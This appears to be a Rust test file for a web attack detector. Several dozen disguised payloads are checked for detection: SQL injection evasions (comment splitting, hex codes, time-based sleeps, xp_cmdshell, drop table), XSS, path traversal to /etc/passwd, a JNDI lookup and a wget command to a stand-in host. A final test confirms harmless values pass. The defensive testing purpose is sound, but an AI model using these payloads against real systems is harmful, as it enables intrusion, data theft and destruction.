//! Disguises of attacks, written for this test alone: comments, case, encodings, codes for signs,
//! other blanks, numbers, operators, by dialect; and honest values beside them.

use detectors::web::{Attack, Class, judge};

/// What a value is taken for as a parameter; `&`, `+`, `%` and `#` are encoded once.
fn taken(value: &str) -> Vec<Attack> {
    let mut encoded = String::new();
    for sign in value.chars() {
        match sign {
            '%' => encoded.push_str("%25"),
            '&' => encoded.push_str("%26"),
            '+' => encoded.push_str("%2B"),
            '#' => encoded.push_str("%23"),
            ' ' => encoded.push_str("%20"),
            '\n' => encoded.push_str("%0A"),
            '\t' => encoded.push_str("%09"),
            '\u{a0}' => encoded.push_str("%A0"),
            '\u{c}' => encoded.push_str("%0C"),
            other => encoded.push(other),
        }
    }
    judge("GET", &format!("/p?x={encoded}"))
}

fn missed<'v>(values: &[&'v str], of: Class) -> Vec<&'v str> {
    let is = |value: &&&str| taken(value).iter().any(|one| one.class == of && one.sure);
    values.iter().filter(|value| !is(value)).copied().collect()
}

#[test]
fn disguised_sql() {
    let values = [
        // Comments between words, and run by one dialect only.
        "7/*x*/union/*y*/select/*z*/1,2",
        "7 /*!50000union*/ /*!50000select*/ 1,2",
        "7'/**/or/**/'q'='q",
        "7 union--a\nselect 1,2",
        "7 union#a\nselect 1,2",
        "7 union-- -%0aselect 1",
        // Case.
        "7 uNiOn aLl SeLeCt nUlL,NuLl",
        "q' oR 'z' LiKe 'z",
        // Other blanks, or none.
        "7\tunion\tselect\t1,2",
        "7\nunion\nselect\n1",
        "7\u{c}union\u{c}select\u{c}1",
        "7'or(2)=(2)or'",
        "(7)or(1)=(1)",
        "7'||(select(pw)from(users)limit 1)||'",
        "-7'union(select(1),(2),(3))or'",
        "7.0union select 1,2",
        "7e0union select 1,2",
        // Codes for signs.
        "7 union select 0x61646d696e,2",
        "7 or char(97)=char(97)",
        "7 and ascii(substr((select pw from users limit 1),1,1))>64",
        "7 union select concat(0x7e,version(),0x7e)",
        "7' and unhex('61')='a",
        // Numbers and conditions.
        "7 or 3>2",
        "7 or not 3=4",
        "7 and 9=(select 9)",
        "7-sleep(4)",
        "7-sleep (4)",
        "7-sleep(4 div 2)",
        "7-sleep(4-(1=1))",
        "7 and sleep(4",
        "7 and if(1=1,sleep(4),0)",
        "7 or 1 between 0 and 2",
        "7 order by 31-- -",
        "7) or (5=5",
        "7 having 2=2",
        "7 xor 1=2",
        // Operators of JSON, arrays and patterns.
        "7' or '{\"a\":1}'::jsonb ? 'a",
        "7' or json_extract('{\"a\":1}','$.a')=1-- -",
        "7' and '{\"b\":2}'::jsonb->>'b'='2",
        "7' or data @> '{}'-- ",
        "7' rlike '.*'-- -",
        "7' regexp '^a'-- -",
    ];
    assert_eq!(missed(&values, Class::Sqli), Vec::<&str>::new());
}

#[test]
fn sql_of_each_dialect() {
    let values = [
        "7; waitfor delay '0:0:4'--",
        "7; exec xp_cmdshell 'whoami'--",
        "7; declare @q varchar(99); set @q=0x73; exec(@q)--",
        "7'||pg_sleep(4)--",
        "7; copy t from program 'id'--",
        "7' and 1=cast((select version()) as int)--",
        "7 and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))",
        "7' and extractvalue(1,concat(0x7e,(select user())))-- -",
        "7' union select sql from sqlite_master--",
        "7 into outfile '/tmp/x'",
        "7 procedure analyse(extractvalue(1,1),1)",
        "x' or 1=1 limit 1 -- -+",
        "x'; drop table users; --",
        "\" or \"\"=\"",
        "admin' --",
        "x' and 2=2 union select null,null,null#",
    ];
    assert_eq!(missed(&values, Class::Sqli), Vec::<&str>::new());
}

#[test]
fn encoded_attacks() {
    let found = |query: &str, class| {
        let all = judge("GET", &format!("/p?x={query}"));
        assert!(all.iter().any(|one| one.class == class), "{query}: {all:?}");
    };
    found("1%2527%2520or%25201%253d1--", Class::Sqli);
    found("1%252527%252520union%252520select%2525201", Class::Sqli);
    found("1%u0027%u0020or%u00201%u003d1--", Class::Sqli);
    found("1%ef%bc%87%20or%201=1--%20-", Class::Sqli);
    found(
        "1&#39; or &#39;1&#39;=&#39;1".replace(' ', "%20").replace('#', "%23").as_str(),
        Class::Sqli,
    );
    found("%253Cscript%253Ealert(1)%253C/script%253E", Class::Xss);
    found("%26lt;script%26gt;alert(1)%26lt;/script%26gt;", Class::Xss);
    found("%5cu003cimg%20src=q%20onerror=alert(1)%5cu003e", Class::Xss);
    found("..%c0%af..%c0%afetc/passwd", Class::Traversal);
    found("%252e%252e%252f%252e%252e%252fetc%252fpasswd", Class::Traversal);
    found("..%5c..%5cwindows%5cwin.ini", Class::Traversal);
    found("$%7B$%7Blower:j%7Dndi:ldap://x.example/a%7D", Class::Lookup);
    found("%60id%60", Class::Command);
    found("1;w%22%22get%20http://x.example/a", Class::Command);
    found("JyBvciAxPTEgLS0gLQ==", Class::Sqli);
}

#[test]
fn honest_values() {
    let honest = [
        "O'Brien & Sons",
        "rock 'n' roll",
        "5 > 3",
        "C++ or C#",
        "select a colour",
        "union square",
        "drop by at 5",
        "table for two",
        "1-2-3",
        "50% off",
        "a/b test",
        "what's on?",
        "AC/DC",
        "fish & chips",
        "{name}",
        "(555) 010-9999",
        "x = y",
        "10:30",
        "1,000.50",
        "e-mail: a@b.example",
        "not null",
        "order by mail",
        "group by price",
        "like a rolling stone",
        "3 or more",
        "update 2 available",
        "delete key",
        "the cat; the dog",
        "size=L",
        "50/50",
        "it's 9 o'clock",
        "Where is Waldo?",
        "insert coin",
        "having fun",
        "between us",
        "sleep 8 hours",
        "sleep (8 hours)",
        "better sleep (7 nights) for two",
        "#1 choice",
    ];
    let fired: Vec<_> = honest.iter().filter(|v| taken(v).iter().any(|one| one.sure)).collect();
    assert_eq!(fired, Vec::<&&str>::new());
}
